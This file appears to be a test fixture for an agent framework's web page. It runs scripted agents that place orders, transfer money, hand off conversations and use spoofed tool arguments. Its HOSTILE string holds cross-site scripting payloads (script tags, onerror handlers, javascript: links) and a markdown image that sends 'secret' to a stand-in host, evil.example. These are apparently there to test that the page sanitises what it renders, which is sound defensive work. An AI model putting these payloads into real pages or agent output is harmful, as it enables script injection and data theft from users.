"""A server of scripted agents for the page's tests: what a run does is told by the first word of its task."""

import asyncio
import contextlib
import socket
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from glidepath import Agent, Limits, Skill, tool
from glidepath.apps.server import listen
from glidepath.errors import TransientError
from glidepath.serve import app
from glidepath.sessions import PostgresStore, SqliteStore
from glidepath.testing import ScriptedModel, call, calls, fail, say, thinking

sys.path.insert(0, str(Path(__file__).parents[2]))
from tests.spoofs import SPOOFS

CONTROL = "control-token-0123456789"
VIEW = "view-token-0123456789012"

HOSTILE = """# Report <img src=x onerror=alert(1)>
<script>window.pwned = true</script> **bold**, *weak*, `code`, ~~gone~~ and a [link](https://example.org/a?b=c).
[bad](javascript:alert(1)) ![picture](https://evil.example/leak?q=secret) [data](data:text/html,hi)

1. one
2. two
   - inner
- [x] done
- [ ] open

| name | value |
|---|---|
| <b>a</b> | 1 |

> quoted

```python
print("<b>not bold</b>")
```
"""

ANSWER = (
    "Three vendors fit the budget.\n\n| vendor | price | delivery |\n|---|---|---|\n| Northwind | $412 | 3 days |\n"
    "| Contoso | $398 | 9 days |\n| Fabrikam | $455 | next day |\n\n"
    "**Northwind** is the best trade between price and time; see [the offer](https://example.org/offer)."
)
SLOW = "\n\n".join(
    [mark * (7_000 // len(mark)) for mark in ("`", "[", "**", "# ", "| - ", "> ", "- ", "*a ", "_b_", "[x](", "![")]
)
TOPICS = ["vendors", "delivery times", "warranty terms", "reviews", "price history", "stock", "returns", "certificates"]


@tool
async def search(query: str) -> str:
    """Search the catalogue."""
    await asyncio.sleep(0.05)
    return f"12 results for {query!r}: Northwind, Contoso, Fabrikam, and nine others."


@tool
async def read_page(url: str, page: int = 1) -> str:
    """Read a page."""
    await asyncio.sleep(0.05)
    return f"Page {page} of {url}. Prices start at $398. Delivery takes three to nine days, depending on the vendor."


@tool
async def peek(place: int) -> str:
    """Look at one place, at once."""
    return f"nothing new at {place}"


@tool(requires_approval=True)
async def place_order(vendor: str, amount: int, note: str = "") -> str:
    """Place an order."""
    return f"ordered {amount} from {vendor}. {note}".strip()


@tool
async def transfer(account: str, amount: int) -> str:
    """Transfer money; takes its time, and happens once."""
    await asyncio.sleep(30)
    return f"transferred {amount} to {account}"


@tool
async def dig(depth: int) -> str:
    """Dig, and listen to nobody."""
    end = time.monotonic() + 8
    while time.monotonic() < end:
        with contextlib.suppress(asyncio.CancelledError):
            await asyncio.sleep(0.1)
    return f"dug {depth}"


def turn_of(request) -> int:
    return sum(message.role == "assistant" for message in request.messages)


def task_of(request) -> str:
    return next(message.text for message in request.messages if message.role == "user")


def working(request):
    turn = turn_of(request)
    topic = TOPICS[turn % len(TOPICS)]
    made = call("search", query=f"{topic}, part {turn + 1}").with_text(f"Looking at {topic} next.")
    return made if turn % 2 else thinking(f"The {topic} matter for the decision, so they come first.", made)


def looping(request):
    return call("read_page", url="https://example.org/offers", page=1 + turn_of(request) % 2)


def ordering(request):
    if turn_of(request) == 0:
        return call("search", query="office chairs")
    if turn_of(request) == 1:
        return call("place_order", vendor="Northwind", amount=12, note="Deliver to the third floor.")
    return say("The order is placed.")


def leading(request):
    if turn_of(request) == 0:
        return calls(call("research", task="work: prices"), call("research", task="brief: delivery"))
    return say(ANSWER)


def transferring(request):
    last = request.messages[-1]
    if last.role == "user" and "has checked" not in last.text:
        return call("transfer", account="DE-42", amount=100)
    return say("Settled.")


_failed: set[str] = set()


def shaky(request):
    if task_of(request) not in _failed:
        _failed.add(task_of(request))
        return fail(TransientError("the connection was reset"), text="The first attempt says something wrong and then")
    return say(ANSWER)


def spoofing(request):
    """Ask for the call whose number the task names."""
    if turn_of(request):
        return say("The order is placed.")
    spoof = SPOOFS[int(task_of(request).split(":")[1])]
    return call("place_order", vendor=spoof.value, amount=1)


def studying(request):
    """Read a skill that nobody trusts, then one that a person trusts."""
    turn = turn_of(request)
    return call("read_skill", name=("quotes", "terms")[turn]) if turn < 2 else say("Read both.")


def relaying(request):
    """Hand over to billing, which starts a call in the background and collects it."""
    turn = turn_of(request)
    steps = (call("transfer_to_billing", reason="a refund"), call("refund", order=7), call("collect", id="bg-1"))
    return steps[turn] if turn < len(steps) else say("Refunded.")


@tool(background=True)
async def refund(order: int) -> str:
    """Refund an order."""
    await asyncio.sleep(0.05)
    return f"refunded {order}"


SCRIPTS: dict[str, Callable] = {
    "relay": relaying,
    "spoof": spoofing,
    "work": working,
    "loop": looping,
    "order": ordering,
    "lead": leading,
    "shaky": shaky,
    "hostile": lambda _: say(HOSTILE),
    "study": studying,
    "transfer": transferring,
    "dig": lambda _: call("dig", depth=3),
    "slow": lambda _: say(SLOW),
    "brief": lambda _: say(ANSWER),
    "quick": lambda request: call("peek", place=len(request.messages)),
    "chat": lambda _: say("word " * 6000, delay=1 / 72),  # a little more than 60 events a second
}


def script(request):
    if not request.tools and turn_of(request):
        return say(f"Landing. {ANSWER}")
    return SCRIPTS.get(task_of(request).split(":")[0], SCRIPTS["brief"])(request)


def pilot(name: str = "pilot", delay: float = 0.02, **limits) -> Agent:
    model = ScriptedModel(name="scripted", price=("3", "15"), delay=delay, record=False).forever(script)
    helper = Agent(model=model, tools=[search], limits=Limits(max_iterations=6), agent_name="researcher")
    tools = [
        search,
        read_page,
        peek,
        place_order,
        transfer,
        dig,
        helper.as_tool("research", "Hand a question to a researcher."),
    ]
    bounds = {"max_iterations": 60, "max_tokens": 60_000, "max_cost": "0.50", "timeout": 900, **limits}
    return Agent(model=model, tools=tools, limits=Limits(**bounds), agent_name=name)


def scholar() -> Agent:
    """An agent with a skill that nobody trusts, and one that a person trusts."""
    model = ScriptedModel(name="scripted", price=("3", "15"), record=False).forever(script)
    with tempfile.TemporaryDirectory() as folder:
        skills = []
        for name in ("quotes", "terms"):
            place = Path(folder, name)
            place.mkdir()
            head = f"---\nname: {name}\ndescription: How to compare {name}.\n---\n"
            (place / "SKILL.md").write_text(f"{head}Compare the {name}, and <b>nothing</b> else.\n")
            skills.append(Skill.read(place, trusted=name == "terms"))
    return Agent(model=model, tools=[search], skills=skills, limits=Limits(max_iterations=9), agent_name="scholar")


def triage() -> Agent:
    """An agent that hands the conversation over to another one."""
    model = ScriptedModel(name="scripted", price=("3", "15"), record=False).forever(script)
    few = Limits(max_iterations=9)
    billing = Agent(model=model, tools=[refund], limits=few, agent_name="billing")
    return Agent(model=model, handoffs=[billing], limits=few, agent_name="triage")


def main() -> None:
    port, folder = int(sys.argv[1]), sys.argv[2]
    store = None if folder == "-" else PostgresStore(folder) if "://" in folder else SqliteStore(Path(folder))
    agents = [pilot(), pilot("sprinter", delay=0.0), scholar(), triage()]
    application = app(agents=agents, store=store, token={CONTROL: "control:ada", VIEW: "view"})
    bound = socket.create_server(("127.0.0.1", port))
    print(f"http://127.0.0.1:{bound.getsockname()[1]}/#token={CONTROL}", flush=True)
    listen(application, bound)


if __name__ == "__main__":
    main()
